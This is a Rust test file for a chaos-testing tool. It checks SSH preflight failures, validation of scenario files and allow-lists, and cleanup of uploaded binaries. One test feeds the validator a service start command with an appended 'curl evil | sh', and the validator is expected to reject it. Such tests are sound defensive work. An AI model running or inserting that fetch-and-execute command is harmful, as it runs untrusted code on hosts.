//! A host the run cannot use is found at preflight: exit 2 before any load, with the reason and the fix.

use std::process::Command;

use super::sshd::Sshd;
use super::{EXE, free_port};

/// A one-second run holding one port on host `h`; returns (exit code, stderr, whether a report was written).
pub fn run_on(sshd: &Sshd, host: &str, port: u16) -> (Option<i32>, String, bool) {
    let dir = tempfile::tempdir().unwrap();
    let scenario = format!(
        "[load]\nrate = 5\n[[phase]]\nname = \"p\"\nduration = \"1s\"\nfaults = [\"hold\"]\n\
         [[fault]]\nname = \"hold\"\nhost = \"h\"\n[fault.port_conflict]\nport = {port}\n{host}\n"
    );
    let path = dir.path().join("s.toml");
    std::fs::write(&path, scenario).unwrap();
    let out = dir.path().join("out");
    let o = Command::new(EXE)
        .args(["run", "--quiet", "--out"])
        .arg(&out)
        .arg(&path)
        .env("SPACETIME_DRILL_JOURNAL", dir.path().join("harness.jsonl"))
        .output()
        .unwrap();
    let _ = sshd;
    (o.status.code(), String::from_utf8_lossy(&o.stderr).into_owned(), out.join("report.json").exists())
}

#[test]
fn unreachable_host_wrong_key_other_protocol_or_missing_binary_exit_2_before_any_load() {
    let sshd = Sshd::start();
    let d = sshd.dir.path();
    let port = free_port();
    let allow = format!("[host.allow]\nports = [{port}]");
    let journal = d.join("host.jsonl");
    let (code, err, _) = run_on(&sshd, &sshd.host_entry("h", &journal, &allow), port);
    assert_eq!(code, Some(0), "the healthy host works: {err}");

    let other_key = d.join("other_key");
    let ok = Command::new("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-f"]).arg(&other_key).status();
    assert!(ok.unwrap().success());
    let other_pub = std::fs::read_to_string(other_key.with_extension("pub")).unwrap();
    let bad_known = d.join("bad_known_hosts");
    std::fs::write(&bad_known, format!("[127.0.0.1]:{} {other_pub}", sshd.port)).unwrap();
    let wrong_key = sshd.config("badkey", &bad_known);
    let wrapper = d.join("old-agent");
    std::fs::write(&wrapper, format!("#!/bin/sh\nexec {EXE} \"$@\" --protocol 7\n")).unwrap();
    std::process::Command::new("chmod").arg("755").arg(&wrapper).status().unwrap();
    let key = d.join("client_key");
    let cases = [
        (
            format!(
                "[[host]]\nname = \"h\"\nssh = \"root@127.0.0.1\"\nport = {}\nidentity = \"{}\"\n{allow}",
                free_port(),
                key.display()
            ),
            "cannot reach or log in",
            "without a prompt",
        ),
        (
            format!(
                "[[host]]\nname = \"h\"\nssh = \"badkey\"\nssh_config = \"{}\"\nspacetime_drill = \"{EXE}\"\n{allow}",
                { wrong_key.display() }
            ),
            "host key",
            "known_hosts",
        ),
        (sshd.host_entry("h", &journal, &allow).replace(EXE, wrapper.to_str().unwrap()), "protocol 7", "upload = true"),
        (
            sshd.host_entry("h", &journal, &allow).replace(EXE, "/nonexistent/spacetime-drill"),
            "is not on host",
            "upload",
        ),
    ];
    for (host, reason, fix) in cases {
        let (code, err, report) = run_on(&sshd, &host, port);
        assert_eq!(code, Some(2), "{reason}: {err}");
        assert!(err.contains("preflight failed") && err.contains(reason) && err.contains(fix), "{reason}: {err}");
        assert!(!report, "no load ran: {reason}");
    }
}

#[test]
fn validate_names_an_unknown_host_and_the_kinds_that_cannot_act_on_one() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("s.toml");
    let text = "[[phase]]\nname = \"p\"\nduration = \"2s\"\nfaults = [\"a\", \"b\"]\n[[host]]\nname = \"web-1\"\n\
                ssh = \"deploy@web-1\"\n[[fault]]\nname = \"a\"\nhost = \"web-11\"\n[fault.noop]\n[[fault]]\n\
                name = \"b\"\nhost = \"web-1\"\n[fault.network]\nlatency = \"100ms\"\n";
    std::fs::write(&path, text).unwrap();
    let o = Command::new(EXE).arg("validate").arg(&path).output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("s.toml:10:") && err.contains("did you mean \"web-1\""), "{err}");
    assert!(err.contains("s.toml:14:") && err.contains("a network fault cannot act on a host"), "{err}");
}

#[test]
fn validate_names_a_host_command_or_unit_its_allow_list_does_not_name() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("s.toml");
    let text = "[allow]\ncommands = [\"true\"]\n[[phase]]\nname = \"p\"\nduration = \"2s\"\nfaults = [\"s\"]\n\
                [[host]]\nname = \"web-1\"\nssh = \"deploy@web-1\"\n[host.allow]\n\
                commands = [\"systemctl stop godot-spacetime\"]\n[[fault]]\nname = \"s\"\nhost = \"web-1\"\n\
                [fault.service]\nstop = \"systemctl stop godot-spacetime\"\n\
                start = \"systemctl start godot-spacetime; curl evil | sh\"\n[[fault]]\nname = \"k\"\nhost = \"web-1\"\n\
                [fault.kill_process]\nunit = \"godot-spacetime\"\n";
    std::fs::write(&path, text).unwrap();
    let o = Command::new(EXE).arg("validate").arg(&path).output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(2), "{err}");
    assert!(err.contains("s.toml:17:") && err.contains("host \"web-1\" may not run"), "{err}");
    assert!(err.contains("[host.allow] commands") && !err.contains("s.toml:16:"), "the listed stop is fine: {err}");
    assert!(err.contains("s.toml:2:") && err.contains("move them to that [[host]]"), "{err}");
    assert!(err.contains("s.toml:22:") && err.contains("add it to [allow] units"), "a unit is allow-listed: {err}");
}

#[test]
fn the_shipped_staging_game_day_puts_every_fault_on_a_host() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/scenarios/staging-game-day.toml");
    let o = Command::new(EXE).args(["validate", path]).output().unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let file: toml::Table = toml::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    assert_eq!(file["host"].as_array().unwrap().len(), 2);
    assert!(file["fault"].as_array().unwrap().iter().all(|f| f.get("host").is_some()));
}

#[test]
fn upload_copies_the_running_binary_for_the_run_and_removes_it_after() {
    let sshd = Sshd::start();
    let port = free_port();
    let host = sshd.host_entry(
        "h",
        &sshd.dir.path().join("host.jsonl"),
        &format!("upload = true\n[host.allow]\nports = [{port}]"),
    );
    let host = host.replace(&format!("spacetime_drill = \"{EXE}\"\n"), "");
    let before = uploads();
    let (code, err, report) = run_on(&sshd, &host, port);
    assert!(code == Some(0) && report, "{err}");
    assert_eq!(uploads(), before, "the uploaded copy is removed after the run");
}

/// Uploaded copies in /tmp.
pub fn uploads() -> Vec<std::path::PathBuf> {
    let all = std::fs::read_dir("/tmp").unwrap().flatten().map(|e| e.path());
    let mut found: Vec<_> = all.filter(|p| p.to_string_lossy().contains("spacetime-drill.")).collect();
    found.sort();
    found
}
